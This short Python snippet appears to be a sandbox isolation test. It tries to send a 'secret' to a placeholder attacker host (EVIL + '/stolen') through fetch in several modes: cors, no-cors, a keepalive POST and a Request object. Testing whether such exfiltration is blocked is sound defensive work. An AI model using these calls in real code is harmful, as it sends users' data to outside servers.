# Tries to send what it knows to another server by fetch, in every mode.
scope = await find_global()
for mode in ("cors", "no-cors"):
    await attempt(mode, lambda: scope.fetch(f"{EVIL}/stolen?secret={mode}", options(mode=mode)))
await attempt("POST", lambda: scope.fetch(EVIL + "/stolen", options(method="POST", body="secret", keepalive=True)))
await attempt("Request", lambda: scope.fetch(scope.Request.new(EVIL + "/stolen")))
await asyncio.sleep(0.3)
print("tried")
